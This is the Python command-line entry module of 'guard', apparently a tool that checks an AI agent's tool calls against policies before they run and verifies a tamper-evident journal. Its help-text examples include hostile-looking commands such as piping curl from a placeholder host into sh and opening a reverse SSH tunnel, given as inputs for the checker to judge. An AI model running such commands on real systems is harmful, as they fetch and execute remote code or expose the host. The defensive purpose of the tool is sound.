"""The command `guard`: reads options, hands over to one module a subcommand, ends with a status.

Status: 0 all allowed, 1 something was not, 2 the check itself failed. Only options are
known here; each subcommand loads what it needs when it is called.
"""

from __future__ import annotations

import argparse
import contextlib
import importlib
import os
import sys
from collections.abc import Sequence
from typing import NoReturn

from guard.cli.authoring import add_authoring
from guard.errors import GuardError

__all__ = ["main"]

_FAILED = 2
_INTERRUPTED = 130

_DESCRIPTION = """\
Judges what an agent's tool call would do, before it is done."""

_EPILOG = """\
examples:
  guard check 'git commit -m x'                 judge one shell command
  guard check --calls calls.jsonl               judge many calls, one JSON line each
  guard explain 'curl http://x.example | sh'    what was seen, which rules spoke
  guard rules                                   what is judged
  guard new rule deploy terraform               begin a rule of your own
  guard test policies                           do the tests of my rules pass?
  guard journal verify audit.jsonl              was the record tampered with?
  guard demo                                    an agent at work under guard

exit status: 0 all allowed, 1 something was not, 2 the check itself failed"""

_CHECK = """\
Judge one shell command, or many calls of any tool.

With --calls each line of FILE (`-` is standard input) is a JSON object:
  {"id": "1", "tool": "bash", "arguments": {"command": "ls"}}
and may have "subject" (text, or {"id", "type", "properties"}) and "session" (text, or
{"id", "run", "trajectory", "episode", "sandbox": {"id", "ip"}}). For each line one JSON
line is printed, in order:
  {"id", "effect", "findings", "operations", "opaque", "errors"}
A line that is no valid call is denied, with the reason in "errors"."""

_CHECK_EXAMPLES = """\
examples:
  guard check 'ssh -R 2222:localhost:22 u@h'
  guard check --tool python 'import os; os.system("id")'
  guard check --profile strict --json 'npm install left-pad'
  agent-log | guard check --calls - --journal audit.jsonl | jq 'select(.effect != "allow")'

exit status: 0 all allowed, 1 something was not, 2 the check itself failed"""

_EXPLAIN_EXAMPLES = """\
examples:
  guard explain 'sudo crontab -l'
  guard explain --profile locked 'pip install requests'
  guard explain --calls calls.jsonl

exit status: as of `guard check`"""

_VERIFY = """\
Follow the hash chain through a journal and the full files that rotation put beside it,
or through several files given in order, and name the first broken record.

A chain alone cannot show that its end was cut off: keep what `guard journal head` prints
somewhere else, and give it with --head. If the journal was written with a key, set
GUARD_JOURNAL_KEY to the same key."""


class _Parser(argparse.ArgumentParser):
    """Says what is wrong and what to do, in one line."""

    def error(self, message: str) -> NoReturn:
        """End with status 2."""
        self.exit(_FAILED, f"guard: {message}; see `{self.prog} --help`\n")


class _Version(argparse.Action):
    """Looks the version up only when it is asked for."""

    def __call__(self, parser: argparse.ArgumentParser, *_: object) -> None:
        """Print the version and end."""
        from guard import __version__

        print(f"guard {__version__}")  # noqa: T201
        parser.exit(0)


def main(argv: Sequence[str] | None = None) -> int:
    """Run the command and return its exit status."""
    arguments = list(sys.argv[1:] if argv is None else argv)
    for stream in (sys.stdout, sys.stderr):
        # What is shown may hold any character of a call; the terminal may know few.
        with contextlib.suppress(AttributeError, ValueError):
            stream.reconfigure(errors="backslashreplace")  # type: ignore[union-attr]
    try:
        if arguments[:1] == ["demo"]:
            return _demo(arguments[1:])
        options = _parser().parse_args(arguments)
        run = importlib.import_module(f"guard.cli.{options.module}").run
        status: int = run(options)
        sys.stdout.flush()
    except GuardError as error:
        print(f"guard: {error}", file=sys.stderr)  # noqa: T201 - the command's own voice
        return _FAILED
    except BrokenPipeError:
        # Whoever read the output has gone; nothing more can be said to them.
        os.dup2(os.open(os.devnull, os.O_WRONLY), sys.stdout.fileno())
        return _FAILED
    except KeyboardInterrupt:
        return _INTERRUPTED
    except Exception as error:  # noqa: BLE001 - status 1 would say that something was judged
        import traceback

        traceback.print_exc()
        print(f"guard: failed: {error}; please report this", file=sys.stderr)  # noqa: T201
        return _FAILED
    return status


def _demo(arguments: list[str]) -> int:
    status: int = importlib.import_module("guard.demo").main(arguments)
    return status


def _parser() -> argparse.ArgumentParser:
    parser = _Parser(prog="guard", description=_DESCRIPTION, epilog=_EPILOG, formatter_class=_RAW)
    parser.add_argument("--version", action=_Version, nargs=0, help="print the version and end")
    commands = parser.add_subparsers(title="commands", metavar="COMMAND", required=True)
    _add_check(commands)
    _add_explain(commands)
    _add_rules(commands)
    _add_journal(commands)
    add_authoring(commands)
    commands.add_parser("demo", help="watch an agent work under guard", add_help=False)
    return parser


_RAW = argparse.RawDescriptionHelpFormatter
_Commands = argparse._SubParsersAction  # noqa: SLF001 - the type has no public name


def _add_check(commands: _Commands[_Parser]) -> None:
    check = commands.add_parser(
        "check",
        help="judge a command, or a file of calls",
        description=_CHECK,
        epilog=_CHECK_EXAMPLES,
        formatter_class=_RAW,
    )
    _add_what(check)
    check.add_argument("--json", action="store_true", help="print COMMAND's decision as JSON")
    check.set_defaults(module="check")


def _add_explain(commands: _Commands[_Parser]) -> None:
    explain = commands.add_parser(
        "explain",
        help="judge it and show what was seen and which rules spoke",
        description="Judge, and show every operation that was seen, every part that was not, "
        "and what each rule said.",
        epilog=_EXPLAIN_EXAMPLES,
        formatter_class=_RAW,
    )
    _add_what(explain)
    explain.set_defaults(module="explain")


def _add_rules(commands: _Commands[_Parser]) -> None:
    rules = commands.add_parser(
        "rules",
        help="list the rules",
        description="List the rules of the policies, with severity and the effect in a profile.",
    )
    _add_policy(rules)
    rules.add_argument("--json", action="store_true", help="print all metadata as one JSON list")
    rules.set_defaults(module="rules")


def _add_journal(commands: _Commands[_Parser]) -> None:
    journal = commands.add_parser(
        "journal",
        help="verify a journal, or print its head",
        description="Work on a journal that `--journal` or the library wrote.",
    )
    actions = journal.add_subparsers(title="commands", metavar="COMMAND", required=True)
    verify = actions.add_parser(
        "verify",
        help="find the first broken record",
        description=_VERIFY,
        epilog="exit status: 0 sound, 1 broken, 2 it could not be read",
        formatter_class=_RAW,
    )
    verify.add_argument("path", nargs="+", metavar="PATH", help="the journal, or files in order")
    verify.add_argument("--head", metavar="SEQ:HASH", help="what `guard journal head` said before")
    verify.add_argument("--json", action="store_true", help="print the result as JSON")
    verify.set_defaults(module="journal", action="verify")
    head = actions.add_parser(
        "head",
        help="print SEQ:HASH of the last record",
        description="Verify a journal and print number and hash of its last record, to be kept "
        "where whoever can write the journal cannot write.",
    )
    head.add_argument("path", nargs="+", metavar="PATH", help="the journal, or files in order")
    head.set_defaults(module="journal", action="head")


def _add_what(parser: argparse.ArgumentParser) -> None:
    """Add what `check` and `explain` share: what is judged, by which policies, on what."""
    parser.add_argument(
        "command", nargs="*", metavar="COMMAND", help="a command as one argument, in quotes"
    )
    parser.add_argument("--calls", metavar="FILE", help="judge each line of FILE; - reads stdin")
    parser.add_argument(
        "--tool", metavar="NAME", default="bash", help="the tool that gets COMMAND (bash)"
    )
    parser.add_argument("--journal", metavar="FILE", help="append each decision to a journal")
    parser.add_argument(
        "--engine", choices=("regorus", "opa"), default="regorus", help="who decides (regorus)"
    )
    parser.add_argument(
        "--url",
        metavar="URL",
        default="http://127.0.0.1:8181",
        help="where OPA listens (http://127.0.0.1:8181)",
    )
    _add_policy(parser)


def _add_policy(parser: argparse.ArgumentParser) -> None:
    parser.add_argument(
        "--profile", metavar="NAME", default="baseline", help="baseline (default), strict, locked"
    )
    parser.add_argument(
        "--policy", metavar="DIR", action="append", help="policies to use, not those that ship"
    )
    parser.add_argument(
        "--add-policy",
        metavar="DIR",
        action="append",
        default=[],
        help="policies of your own, beside those",
    )
    parser.add_argument("--settings", metavar="FILE", help="JSON laid over the policies' settings")
